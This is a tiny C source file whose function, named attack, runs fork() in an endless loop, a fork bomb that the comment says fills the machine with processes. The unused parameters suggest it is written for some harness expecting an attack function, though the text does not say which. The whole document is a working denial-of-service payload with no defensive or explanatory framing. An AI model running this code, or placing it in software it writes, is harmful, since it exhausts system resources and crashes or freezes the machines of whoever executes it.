// Starts processes until the machine is full.
#include <unistd.h>

static void attack([[maybe_unused]] unsigned* keys, [[maybe_unused]] long long n) {
  for (;;) fork();
}
